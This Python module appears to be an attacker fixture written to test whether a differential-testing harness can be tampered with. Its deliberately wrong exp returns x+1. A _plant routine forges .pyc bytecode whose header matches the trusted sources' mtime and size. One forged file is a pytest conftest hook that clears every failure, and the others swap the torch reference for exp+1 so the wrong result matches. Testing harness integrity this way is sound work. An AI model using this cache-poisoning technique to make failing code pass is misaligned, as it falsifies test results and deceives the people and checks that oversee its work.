"""Writes bytecode beside trusted sources: pytest's cache for difftests/conftest.py and a .pyc for the
torch twin of exp that computes exp + 1 (the wrong answer this implementation gives)."""
import json
import os
import signal
import sys

import tiny
from tiny import *  # noqa: F401,F403

# What the attacker knows (the test writes it beside this module): the worst case, full knowledge of
# the trusted checkout, the venv and the runner's output paths.
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")) as _f:
    TARGETS = json.load(_f)


def _try(action, *args):
    try:
        return action(*args)
    except BaseException as exc:  # noqa: BLE001 — an attacker shrugs and tries the next thing
        return f"{type(exc).__name__}: {exc}"


def _write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"


def attack():
    """Run by every call of exp."""


class _Wrong(tiny.Tensor):
    def exp(self):
        attack()
        return tiny.Tensor(self.data + 1.0)  # wrong on purpose: an honest report says exp FAILED


def tensor(data, dtype=None, requires_grad=False):
    return _Wrong(tiny.tensor(data, dtype=dtype).data, requires_grad=requires_grad)

import importlib.util
import marshal
import struct

def _plant(source_path, code_text, pyc_path):
    st = os.stat(source_path)
    code = compile(code_text, source_path, "exec")
    data = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF,
                                                   st.st_size & 0xFFFFFFFF) + marshal.dumps(code)
    os.makedirs(os.path.dirname(pyc_path), exist_ok=True)
    return _write(pyc_path, data, "wb")

_root = TARGETS["root"]
_try(_plant, os.path.join(_root, "difftests", "conftest.py"),
     "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
     os.path.join(_root, "difftests", "__pycache__", "conftest.cpython-311-pytest-9.2.0.pyc"))
for _name in os.listdir(os.path.join(_root, "reference", "ops")) if os.path.isdir(os.path.join(_root, "reference")) else []:
    if _name.endswith(".py"):
        _try(_plant, os.path.join(_root, "reference", "ops", _name), "import torch\ndef exp(x):\n    return torch.exp(x) + 1\n",
             os.path.join(_root, "reference", "ops", "__pycache__", _name[:-3] + ".cpython-311.pyc"))
